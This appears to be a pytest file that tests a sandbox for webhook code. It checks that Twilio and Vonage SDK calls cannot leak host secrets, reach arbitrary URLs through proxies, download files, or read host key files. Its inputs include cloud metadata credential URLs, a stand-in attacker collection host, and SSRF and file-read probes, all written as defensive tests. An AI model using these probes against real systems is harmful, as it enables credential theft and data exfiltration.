"""The SDKs' legitimate APIs used as weapons: ambient credentials, arbitrary URLs with the
hook's credentials, proxies, file downloads to chosen paths, key files read from chosen paths."""

import os

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa

from attacklib import HOST_SECRETS, hook, make_job, refused

APPLICATION_ID = "aaaaaaaa-bbbb-4ccc-8ddd-0123456789ab"


@pytest.fixture(scope="module")
def private_key_pem():
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    return key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                             serialization.NoEncryption()).decode()


def test_sdk_clients_find_no_credentials_or_proxies_from_the_host(host_secret_sandbox):
    result = host_secret_sandbox.execute(make_job(hook('''
client = Client()
return {"twilio": [client.username, client.password, client.account_sid],
        "proxies": requests.utils.get_environ_proxies("https://api.twilio.com/")}
''', "import requests.utils\nfrom twilio.rest import Client")))
    assert result.status == "success", result.error
    assert result.result == {"twilio": [None, None, None], "proxies": {}}
    for value in HOST_SECRETS.values():
        assert value not in repr(result.result) + repr(result.logs)


ATTACKER_URLS = [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://metadata.google.internal/computeMetadata/v1/",
    "https://attacker.example.net/collect",
    "http://10.0.0.1/",
    "http://127.0.0.1:{port}/",
    "http://localhost:{port}/",
    "http://[::1]:{port}/",
]


@pytest.mark.parametrize("url", ATTACKER_URLS)
def test_twilio_client_request_to_arbitrary_urls_is_refused(run, listener, url):
    url = url.format(port=listener.port)
    result = run(hook(f'''
client = Client("AC" + "0" * 32, context.webtask.secrets.TOKEN,
                http_client=TwilioHttpClient(timeout=2))
response = client.request("GET", {url!r})
return [response.status_code, response.text]
''', "from twilio.http.http_client import TwilioHttpClient\nfrom twilio.rest import Client"))
    refused(result, "ConnectionError", "refused")
    assert listener.received == []


@pytest.mark.parametrize("how", [
    'client.http_client.proxy["https"] = "http://127.0.0.1:%d" % PORT',
    'client.http_client.proxy.update({"https": "http://127.0.0.1:%d" % PORT})',
    'client = Client(SID, TOKEN, http_client=TwilioHttpClient(timeout=2, '
    'proxy={"https": "http://127.0.0.1:%d" % PORT}))',
])
def test_proxy_through_an_attacker_host_is_refused(run, listener, how):
    result = run(hook(f'''
client = Client(SID, TOKEN, http_client=TwilioHttpClient(timeout=2))
{how}
client.messages.create(to=recipient, from_="+15017122661", body=text)
return "sent"
''', "from twilio.http.http_client import TwilioHttpClient\nfrom twilio.rest import Client\n"
     f"SID = 'AC' + '0' * 32\nTOKEN = 'token'\nPORT = {listener.port}"))
    refused(result, "refused")
    assert listener.received == []


def test_replacing_the_proxy_dict_itself_is_refused(run):
    result = run(hook('''
client = Client("AC" + "0" * 32, "token")
client.http_client.proxy = {"https": "http://127.0.0.1:9"}
return "replaced"
''', "from twilio.rest import Client"))
    refused(result, "TypeError")


@pytest.mark.parametrize("url", ["http://169.254.169.254/latest/user-data",
                                 "http://127.0.0.1:{port}/payload"])
def test_vonage_download_file_stream_is_refused(run, listener, world_dir, private_key_pem,
                                                url):
    os.chmod(world_dir, 0o777)
    target = world_dir / "downloaded.bin"
    url = url.format(port=listener.port)
    result = run(hook(f'''
auth = Auth(application_id={APPLICATION_ID!r}, private_key=context.webtask.secrets.KEY)
client = Vonage(auth, HttpClientOptions(timeout=2, max_retries=0))
return repr(client.http_client.download_file_stream({url!r}, {str(target)!r}))
''', "from vonage import Auth, HttpClientOptions, Vonage"), secrets={"KEY": private_key_pem})
    refused(result, "refused")
    assert listener.received == []
    assert not target.exists()


@pytest.fixture
def host_files(world_dir):
    """A root-only key beside a world-readable one, and an engine-style 0700 data directory."""
    marker = "CONTENT-MARKER-5e6f7a8b"
    (world_dir / "root-only.pem").write_text(marker)
    os.chmod(world_dir / "root-only.pem", 0o600)
    (world_dir / "public.pem").write_text(marker)
    os.chmod(world_dir / "public.pem", 0o644)
    data = world_dir / "data"
    data.mkdir(mode=0o700)
    (data / "secret.key").write_text(marker)
    os.chmod(data / "secret.key", 0o644)  # readable by all, but its directory is not
    return world_dir, marker


# Both oracles are refused by the language layer where it can see the path; where it cannot,
# the kernel jail leaves no host file to find: not even a world-readable one.
@pytest.mark.parametrize("name", ["root-only.pem", "data/secret.key", "public.pem"])
def test_vonage_auth_private_key_paths_reveal_no_host_file(run, host_files, name):
    world_dir, marker = host_files
    result = run(hook(f'''
try:
    Auth(application_id={APPLICATION_ID!r}, private_key={str(world_dir / name)!r})
except Exception as error:
    return ["failed", str(error)]
return ["loaded"]
''', "from vonage import Auth"))
    assert marker not in repr(result.result) + repr(result.error)
    assert result.status == "error" or result.result[0] == "failed", result.result


@pytest.mark.parametrize("name", ["root-only.pem", "data/secret.key", "public.pem"])
def test_zoneinfo_tzpath_reveals_no_host_file(run, host_files, name):
    world_dir, marker = host_files
    folder, key = os.path.split(str(world_dir / name))
    result = run(hook(f'''
zoneinfo.reset_tzpath([{folder!r}])
try:
    zoneinfo.ZoneInfo({key!r})
except Exception as error:
    return str(error)
return "loaded"
''', "import zoneinfo"))
    assert marker not in repr(result.result) + repr(result.error)
    assert result.status == "error" or "No time zone found" in result.result, result.result
